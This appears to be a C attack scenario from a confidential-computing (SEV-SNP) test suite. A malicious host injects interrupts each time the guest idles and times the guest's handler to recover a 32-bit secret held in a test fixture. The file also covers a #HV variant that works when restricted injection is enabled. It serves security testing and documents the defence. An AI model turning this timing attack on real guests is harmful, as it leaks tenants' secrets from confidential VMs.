/*
 * host/attacks/scn_irq_timing.c - irq-timing (THREAT-MODEL.md N5): the hypervisor's event
 * injection (H4) against a guest that idles (HLT), with the agent's diagnostics op IRQWORK
 * (docs/guest.md; the idle stepping: atk_agent.c). The host injects one interrupt per idle HLT
 * and times, with the machine's cycle counter, how long the guest runs before it idles again.
 * The agent's IRQWORK job (a test fixture) does one step of a computation over a secret per
 * event, a set bit costing more than a clear one; the host recovers the secret bit by bit.
 * Enabling condition: the host delivers the guest's interrupts and owns the clock. Defence:
 * none in SNP (conceded, SUCCEEDED everywhere); constant-time handlers in the guest.
 * RestrictedInjection (snp-patched launches with it here) only narrows the vector to #HV: the
 * host injects #HV instead, and the guest's handler still runs on the host's schedule.
 */
#include "host/attacks/atk_int.h"

#include "base/rd.h"
#include "snpkit/vmsa.h"

#include <string.h>

#define IRQ_ROUNDS     32u /* bits of the secret, one event each (SNP_APP_IRQWORK_MAX) */
#define IRQ_TIMER_VEC  0x20u
#define IRQ_MIN_SPREAD 8u /* cycles: below this the handler times are all one class */

static snp_err
atk_irq_timing(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct snp_vmm_launch l;
    struct atk_vm vm;
    uint8_t msg[8];
    uint64_t ev, d[IRQ_ROUNDS], base = 0, top = 0, low = UINT64_MAX, t0;
    uint32_t guess = 0, steps, secret;
    const uint8_t *a;
    unsigned done = 0;
    bool hlt = false;
    char b[96];
    snp_err err;

    atk_launch_default(c, &l);
    if (c->profile == SNP_ATK_SNP_PATCHED) {
        /* protected injection: only #HV gets in, so the host uses #HV */
        l.guest_features = SNP_VMSA_FEAT_SNP_ACTIVE | SNP_VMSA_FEAT_RESTRICTED_INJECTION;
        ev =
            SNP_VMSA_EVENTINJ_VALID | (UINT64_C(3) << SNP_VMSA_EVENTINJ_TYPE_SHIFT) | SNP_VECTOR_HV;
    } else {
        ev = SNP_VMSA_EVENTINJ_VALID | IRQ_TIMER_VEC; /* type 0: external interrupt */
    }
    memset(msg, 0, sizeof(msg));
    msg[0] = SNP_CHAN_OP_IRQWORK;
    msg[4] = (uint8_t)IRQ_ROUNDS;
    err = atk_vm_start(c, &vm, &l, msg, sizeof(msg));
    if (err != SNP_OK) {
        goto out;
    }
    vm.next_len = atk_msg_shutdown(vm.next); /* handed with the IRQWORK answer */
    vm.last_len = 0;
    err = atk_to_idle(c, &vm, &hlt);
    if (err != SNP_OK) {
        goto out;
    }
    if (!hlt) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "the guest never idled; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    /* calibration: one idle period with no event */
    t0 = snp_host_cycles(c->m);
    err = atk_step_exit(c, &vm, &hlt);
    if (err != SNP_OK) {
        goto out;
    }
    base = snp_host_cycles(c->m) - t0;
    atk_trace(c, SNP_ATK_ACT_HV,
              "idle period without an event: %llu cycles; now EVENTINJ 0x%llx at each HLT",
              (unsigned long long)base, (unsigned long long)ev);
    for (; done < IRQ_ROUNDS && hlt; done++) {
        err = snp_host_inject(c->m, vm.v->vcpu_ids[0], ev);
        if (err != SNP_OK) {
            goto out;
        }
        t0 = snp_host_cycles(c->m);
        err = atk_step_exit(c, &vm, &hlt);
        if (err != SNP_OK) {
            goto out;
        }
        d[done] = snp_host_cycles(c->m) - t0;
        top = d[done] > top ? d[done] : top;
        low = d[done] < low ? d[done] : low;
    }
    if (atk_vmrun_refused(&vm)) {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "VMRUN with EVENTINJ 0x%llx refused (VMEXIT_INVALID): no event reached "
                     "the guest, nothing to time",
                     (unsigned long long)ev);
        goto out;
    }
    if (done < IRQ_ROUNDS) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "the guest stopped idling after %u event(s); guest %s",
                     done, atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    /* a step is a set bit when it took clearly longer than an idle period without an event */
    for (unsigned i = 0; i < IRQ_ROUNDS; i++) {
        if (top > base + IRQ_MIN_SPREAD && d[i] > base + (top - base) / 2) {
            guess |= UINT32_C(1) << i;
        }
    }
    atk_trace(c, SNP_ATK_ACT_HV,
              "handler times: %llu..%llu cycles per event (idle %llu): secret guessed 0x%08x",
              (unsigned long long)low, (unsigned long long)top, (unsigned long long)base, guess);
    err = atk_vm_exchange(&vm, vm.next, vm.next_len);
    if (err != SNP_OK) {
        goto out;
    }
    if ((a = atk_answer(&vm, SNP_CHAN_OP_IRQWORK, 8)) == NULL) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "no IRQWORK answer; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    steps = snp_le32(a);
    secret = snp_le32(a + 4); /* revealed by the fixture only to score the guess */
    atk_trace(c, SNP_ATK_ACT_GUEST, "IRQWORK: %u step(s) done; its secret was 0x%08x", steps,
              secret);
    if (steps != IRQ_ROUNDS) {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "the guest's handler ran %u of %u steps: the events did not reach it", steps,
                     IRQ_ROUNDS);
    } else if (guess == secret) {
        atk_evidence(obs, SNP_ATK_SUCCEEDED,
                     "recovered the guest's %u-bit secret 0x%08x from its handler times (vector "
                     "0x%llx; idle %llu cycles, a set bit up to %llu)",
                     IRQ_ROUNDS, guess, (unsigned long long)(ev & SNP_VMSA_EVENTINJ_VECTOR_MASK),
                     (unsigned long long)base, (unsigned long long)top);
    } else {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "handler times did not reveal the secret: guessed 0x%08x, it was 0x%08x "
                     "(idle %llu cycles, max %llu)",
                     guess, secret, (unsigned long long)base, (unsigned long long)top);
    }
out:
    atk_vm_free(&vm);
    return err;
}

/* Interrupt timing is a side channel outside the SNP guarantees (THREAT-MODEL.md N5):
 * conceded, so the expected outcome is SUCCEEDED everywhere; the defence names what would stop
 * it. */
const struct snp_atk_scenario atk_scn_irq_timing = {
    .id = "irq-timing",
    .title = "time the guest's interrupt handler to read a secret bit by bit",
    .ref = "N5",
    .cap = "H4, H5",
    .condition = "the host injects the interrupts and owns the clock",
    .defence = "conceded: none in SNP (RestrictedInjection leaves #HV; guest-side: constant-time "
               "handlers)",
    .profiles = ATK_P_ALL,
    .expect = {SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED},
    .run = atk_irq_timing,
};
